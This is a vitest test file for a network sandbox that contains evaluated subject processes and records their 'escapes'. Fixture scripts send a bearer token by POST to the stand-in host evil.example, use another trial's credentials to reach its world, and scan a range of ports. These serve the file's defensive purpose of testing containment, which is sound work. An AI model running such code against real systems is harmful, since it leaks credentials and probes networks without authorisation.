import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import type { World } from '../../../engine/world.ts'
import { SubjectProcess } from '../../subject/process.ts'
import { LaneStage, probeForTests } from '../../testing/lane-stage.ts'
import type { Berth, Program } from '../wall.ts'

const probe = await probeForTests()

describe.skipIf(!('tools' in probe))('a berth of a lane', () => {
  let stage: LaneStage
  beforeAll(async () => {
    stage = await LaneStage.open()
  })
  afterAll(() => stage.close())

  it('notes what a warm process tried between two trials in the next one', async () => {
    stage.write(
      'warm.mjs',
      `import { createInterface } from 'node:readline'
let late
for await (const line of createInterface({ input: process.stdin })) {
  const { trial } = JSON.parse(line)
  if (trial) {
    // However slow the machine is, it has happened before the second trial ends.
    await late
    console.log('{"ready":true}')
    continue
  }
  console.log('{"status":200,"body":{}}')
  late = new Promise((resolve) => setTimeout(resolve, 150)).then(() => fetch('https://late.example/' + process.pid, { method: 'POST', body: 'late' })).catch(() => {})
}
`,
    )
    const subject = stage.subject(['node', 'warm.mjs'], { warm: true })
    expect((await stage.play(subject)).escapes).toEqual([])
    await wait(500)
    const second = await stage.play(subject)
    expect(second.escapes).toEqual([
      'lookup late.example',
      expect.stringMatching(/^POST https:\/\/late\.example\/\d+$/),
    ])
    expect(second.result.verdict).toBe('unsatisfied')
  })

  it('tells worlds apart by token and by path where several are reached from it', async () => {
    const berth = await openBerth({ shared: true })
    const [one, two] = ['a', 'b'].map((seed) => admit(stage, berth, stage.fork(seed)))
    stage.write(
      'shared.mjs',
      `const { TOKENS, URLS } = process.env
const call = async (url, token) => (await fetch(url + '/api/auth.test', { headers: { authorization: 'Bearer ' + token } })).status
const [a, b] = TOKENS.split(',')
const [urlA, urlB] = URLS.split(',')
const body = [await call('https://slack.com', a), await call('https://slack.com', b), await call(urlA, a), await call(urlB, b), await call(urlB, a)]
await fetch('https://evil.example/', { method: 'POST', headers: { authorization: 'Bearer ' + a } })
console.log(JSON.stringify(body))
`,
    )
    const said = await runIn(berth, {
      command: ['node', 'shared.mjs'],
      cwd: stage.folder,
      env: { TOKENS: `${one!.token},${two!.token}`, URLS: `${one!.url},${two!.url}` },
    })
    await Promise.all([one!.leave(), two!.leave()])
    expect(JSON.parse(said)).toEqual([200, 200, 200, 200, 200])
    const callsOf = (world: World) => world.journal.calls().map(({ call }) => call.origin)
    expect(callsOf(one!.world)).toEqual(['https://slack.com', one!.url])
    // A token of another world is shown at this one's address: the twin says no, in its own words.
    expect(callsOf(two!.world)).toEqual(['https://slack.com', two!.url, two!.url])
    // By its token the request is the first one's; the lookup before it may be of either.
    expect(escapesOf(one!.world)).toEqual(['lookup evil.example', 'POST https://evil.example/'])
    expect(escapesOf(two!.world)).toEqual(['lookup evil.example'])
    await berth.close()
  })

  it('lets no program reach the world of another trial', async () => {
    const berth = await openBerth()
    const own = admit(stage, berth, stage.fork('own'))
    const other = stage.worlds.add(stage.fork('other'))
    stage.worlds.mint(other.id, 'slack')
    stage.write(
      'reach.mjs',
      `const url = 'http://127.0.0.1/w/${other.id}/slack/api/auth.test'
const { status } = await fetch(url, { headers: { authorization: 'Bearer ${other.credentials['slack']!['bot']}' } })
console.log(status)
`,
    )
    const command = ['node', 'reach.mjs']
    expect(await runIn(berth, { command, cwd: stage.folder, env: {} })).toBe('404')
    await own.leave()
    expect(other.world.journal.entries).toHaveLength(0)
    expect(escapesOf(own.world)).toEqual([
      `reach into another trial: http://127.0.0.1/w/${other.id}/slack/api/auth.test`,
    ])
    stage.worlds.remove(other.id)
    await berth.close()
  })

  it('is dialled from outside', async () => {
    const berth = await openBerth()
    stage.write(
      'serve.mjs',
      `import net from 'node:net'
net.createServer((socket) => socket.on('data', (data) => { socket.end('heard ' + data); setTimeout(() => process.exit(), 100) })).listen(8080, () => console.log('listening'))
`,
    )
    const listening = Promise.withResolvers<void>()
    const program = { command: ['node', 'serve.mjs'], cwd: stage.folder, env: {} }
    const process = new SubjectProcess({
      launch: berth.wrap(program),
      onLine: () => listening.resolve(),
    })
    await listening.promise
    const socket = await berth.dial(8080)
    const answer = new Promise((resolve) => socket.once('data', (data) => resolve(String(data))))
    socket.write('knock')
    expect(await answer).toBe('heard knock')
    await process.ended
    await expect(berth.dial(8081)).rejects.toMatchObject({ code: 'ECONNREFUSED' })
    await berth.close()
  })

  it('reports what was tried when no trial came after', async () => {
    const berth = await openBerth()
    stage.write('alone.mjs', `await fetch('http://203.0.113.7/').catch(() => {})\n`)
    const program = { command: ['node', 'alone.mjs'], cwd: stage.folder, env: {} }
    await runIn(berth, program)
    await berth.close()
    expect(stage.wall.strays.map(({ how, target }) => `${how} ${target}`)).toEqual([
      'connect tcp://203.0.113.7:80',
      'GET http://203.0.113.7/',
    ])
  })

  it('survives whatever is sent to it', async () => {
    const cwd = join(import.meta.dirname, '../../testing')
    const broke = vi.spyOn(process.stderr, 'write')
    const { reply, result } = await stage.play(
      stage.subject(['node', 'garbage-subject.ts'], { cwd }),
    )
    expect(reply).toMatchObject({ status: 200, body: {} })
    expect(reply.problem).toBeUndefined()
    expect(result.verdict).toBe('unsatisfied')
    expect(broke.mock.calls.map(([text]) => String(text))).toEqual([])
    broke.mockRestore()
  })

  it('hears of every port of a scan, and is not held up by it', async () => {
    const { reply, result } = await stage.script(`
const knock = (port) => new Promise((resolve) => {
  const socket = net.connect(port, '203.0.113.3')
  socket.on('error', (error) => resolve(error.code))
  socket.on('close', () => resolve('closed'))
})
const seen = new Set()
for (let port = 1000; port < 3000; port += 100) {
  for (const one of await Promise.all(Array.from({ length: 100 }, (_, i) => knock(port + i)))) seen.add(one)
}
said.seen = [...seen]
`)
    expect(reply.body).toEqual({ seen: ['ECONNRESET'] })
    expect(result.escapes).toHaveLength(201)
    expect(result.escapes.at(-1)!.target).toBe('1800 more attempts')
  })

  it('counts what it does not list', async () => {
    const { result } = await stage.script(`
const send = (i) => new Promise((resolve) => {
  const socket = net.connect(80, '203.0.113.1', () => socket.write('GET /' + i + ' HTTP/1.1\\r\\nHost: x' + i + '\\r\\n\\r\\n'))
  socket.on('data', () => socket.destroy())
  socket.on('error', resolve)
  socket.on('close', resolve)
})
for (let i = 0; i < 260; i += 20) await Promise.all(Array.from({ length: 20 }, (_, j) => send(i + j)))
`)
    expect(result.escapes).toHaveLength(201)
    expect(result.escapes.at(-1)).toMatchObject({ how: 'not listed:', target: '61 more attempts' })
  })

  async function openBerth(options: { shared?: boolean } = {}): Promise<Berth> {
    return stage.wall.open({ readable: [stage.folder], ...options })
  }
})

interface AdmittedWorld {
  world: World
  url: string
  token: string
  leave: () => Promise<void>
}

function admit(stage: LaneStage, berth: Berth, world: World): AdmittedWorld {
  const open = stage.worlds.add(world)
  const { bot } = stage.worlds.mint(open.id, 'slack')
  const { urlOf, leave } = berth.admit(open, stage.server)
  return { world, url: urlOf('slack'), token: bot!, leave }
}

function escapesOf({ journal }: World): string[] {
  return journal.entries.flatMap((one) =>
    one.kind === 'escape' ? [`${one.how} ${one.target}`] : [],
  )
}

async function runIn(berth: Berth, program: Program): Promise<string> {
  const lines: string[] = []
  const process = new SubjectProcess({
    launch: berth.wrap(program),
    onLine: (line) => lines.push(line),
  })
  await process.ended
  return lines.join('\n') || process.stderr
}
